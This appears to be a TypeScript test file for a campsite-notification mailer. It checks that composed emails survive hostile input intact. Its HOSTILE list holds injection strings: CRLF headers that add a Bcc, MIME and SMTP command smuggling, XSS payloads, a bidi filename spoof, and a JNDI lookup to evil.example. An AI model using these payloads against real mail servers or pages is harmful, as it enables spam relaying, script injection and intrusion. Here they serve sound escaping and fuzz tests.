import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { oneLine } from '@vivac/domain/shown-text';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Language, LANGUAGES } from '@vivac/domain/language';
import { createMailer } from '#platform/mail/create-mailer';
import type { Mailer } from '#platform/mail/mailer';
import { type MailServer, startMailServer, type ReceivedMail, lastMail, mailOf } from '@vivac/testing/mail-server';
import { MADRID, finding, priceNewsOf, reviewNewsOf, reportedReview } from '@vivac/testing/market/rule-news';
import { composeMessage, unsubscribeAddress } from './mail/compose-message.ts';
import type { RuleNews } from './kinds/rule-kind-table.ts';

const PUBLIC_URL = 'https://vivac.example';
const ANA = 'ana@vivac.test';
/** Every header that a message may have, in the order of the alphabet. */
const HEADERS = [
  'auto-submitted',
  'content-language',
  'content-type',
  'date',
  'from',
  'list-unsubscribe',
  'list-unsubscribe-post',
  'message-id',
  'mime-version',
  'subject',
  'to',
];
const TAGS = new Set(
  'a body br div h1 h2 head html meta p span strong style table tbody td th thead title tr'.split(' '),
);

const HOSTILE = [
  'Camping\r\nBcc: eva@vivac.test',
  'Camping\nSubject: another\n\nbody',
  'Camping\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  'a\0b\u0007c\u0085d\u2028e',
  '"quoted" \\ \'single\' `back`',
  'x'.repeat(5000),
  'قلعة الرمال',
  '\u202egnp.exe\u202c',
  '👩‍👩‍👧‍👦 🏕️',
  '=?utf-8?B?DQpCY2M6IGV2YUB2aXZhYy50ZXN0?=',
  '=?utf-8?Q?=0D=0ABcc:_eva@vivac.test?=',
  'Camping =?utf-8?Q?=42cc?= Mar',
  "<script>alert('x')</script>",
  '"><img src=x onerror=alert(1)>',
  '</title></style><iframe src="https://evil.example">',
  '&lt;script&gt;&#0;',
  '.\r\n.\r\nQUIT',
  'From me\r\n.\r\nMAIL FROM:<eva@vivac.test>',
  '${jndi:ldap://evil.example/a} {{7*7}} %0d%0aBcc:eva@vivac.test',
];

let server: MailServer;
let mailer: Mailer;
beforeAll(async () => {
  server = await startMailServer();
  mailer = createMailer({ smtpUrl: server.url, mailFrom: 'Vivac <vivac@vivac.test>', dataDir: '/nowhere' });
});
afterAll(async () => {
  await mailer.close();
  await server.stop();
});

const compose = (news: RuleNews, language: Language) =>
  composeMessage(
    news,
    { email: ANA, language },
    { publicUrl: PUBLIC_URL, unsubscribe: unsubscribeAddress(PUBLIC_URL, 'token'), message: 'id' },
    MADRID,
  );

let sent = 0;
async function received(news: RuleNews, language: Language): Promise<ReceivedMail> {
  const messageId = `<mail-${++sent}@vivac.test>`;
  await mailer.send({ ...compose(news, language), messageId });
  return mailOf(server.folder, messageId);
}

/** The server of the tests waits a tenth of a second before it greets: mails are sent at once. */
const inEachLanguage = (those: readonly RuleNews[]) =>
  Promise.all(
    LANGUAGES.flatMap((language) =>
      those.map(async (news) => ({ news, language, mail: await received(news, language) })),
    ),
  );

function newsNamed(own: string, other: string, stated: string): RuleNews[] {
  return [
    priceNewsOf([finding(0, other, 120, 90)], {
      reference: own,
      rule: { ...priceNewsOf([]).rule, filters: { channel: stated, extras: other } },
      stale: [{ name: other, nights: 1, seenAtS: 1_800_000_000 }],
    }),
    reviewNewsOf([reportedReview({ title: stated, positive: other, negative: own, reviewerName: stated })], {
      reference: own,
    }),
  ];
}

/** Sees what is true of a message whatever somebody called a campsite, or wrote of it; answers to whom it went. */
function unharmed(mail: ReceivedMail, news: RuleNews, language: Language) {
  expect(mail.headers.map(({ key }) => key).sort()).toEqual(HEADERS);
  expect([mail.cc, mail.bcc, mail.attachments]).toEqual([undefined, undefined, []]);
  expect(mail.header('list-unsubscribe')).toBe(
    `<${PUBLIC_URL}/notifications/unsubscribe?token=token&lang=${language}>`,
  );
  // The only thing that was added on the way is a mark without a shape.
  const { subject, text } = compose(news, language);
  expect(mail.subject?.replaceAll('\u2060', '')).toBe(subject);
  expect(mail.text?.trimEnd()).toBe(text.trimEnd());
  expect(oneLine(mail.subject ?? '').length).toBeLessThan(400);
  const html = mail.html ?? '';
  for (const [, tag = ''] of html.matchAll(/<\/?([a-z][^\s>/]*)/gi)) expect(TAGS).toContain(tag.toLowerCase());
  expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i);
  for (const [, address = ''] of html.matchAll(/(?:href|src|action)="([^"]*)"/gi))
    expect(address.startsWith(`${PUBLIC_URL}/`)).toBe(true);
  expect(mail.raw).not.toMatch(/[^\r]\n|\r[^\n]/);
  expect(Math.max(...mail.raw.split('\r\n').map((line) => line.length))).toBeLessThanOrEqual(998);
  return mail.to?.map(({ address }) => address);
}

describe('a notification mail received by SMTP', () => {
  it('has the composed subject, text and HTML', async () => {
    const those = newsNamed('Glamping Ñandú', 'Camping Río Duero', 'Música toda la noche');
    for (const { mail, news, language } of await inEachLanguage(those)) {
      expect(unharmed(mail, news, language)).toEqual([ANA]);
      expect(mail.from?.address).toBe('vivac@vivac.test');
      expect(mail.header('content-language')).toBe(language);
      expect(mail.header('auto-submitted')).toBe('auto-generated');
      expect(mail.header('list-unsubscribe-post')).toBe('List-Unsubscribe=One-Click');
      expect(mail.html).toContain(`<div role="main" lang="${language}">`);
      expect(mail.html).toContain('Camping Río Duero');
    }
  });

  // @holds rule-38
  it.each(HOSTILE)('escapes the hostile text %# in names and reviews (HTML injection)', async (text) => {
    for (const { mail, news, language } of await inEachLanguage(newsNamed(text, text, text)))
      expect(unharmed(mail, news, language)).toEqual([ANA]);
  });

  // @holds rule-38
  it('escapes any text (fuzzing)', async () => {
    const anything = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string({ unit: 'grapheme', maxLength: 60 }),
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc
        .array(fc.constantFrom('\r', '\n', '=?', '?=', '<', '"', '>', ':', ' ', 'Bcc', '\u202e', 'é'))
        .map((all) => all.join('')),
    );
    await fc.assert(
      fc.asyncProperty(anything, anything, anything, async (own, other, stated) => {
        const those = newsNamed(own, other, stated);
        const mails = await Promise.all(those.map((news) => received(news, 'en')));
        for (const [at, news] of those.entries()) expect(unharmed(mails[at]!, news, 'en')).toEqual([ANA]);
      }),
      { numRuns: 25, endOnFailure: true },
    );
  });

  it('is the same as the .eml file', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'vivac-outbox-'));
    const outbox = createMailer({ smtpUrl: null, mailFrom: 'Vivac <vivac@vivac.test>', dataDir });
    for (const news of newsNamed(HOSTILE[0]!, HOSTILE[9]!, HOSTILE[11]!)) {
      await outbox.send(compose(news, 'es'));
      expect(unharmed(await lastMail(join(dataDir, 'outbox')), news, 'es')).toEqual([ANA]);
    }
    await outbox.close();
    await rm(dataDir, { recursive: true });
  });
});
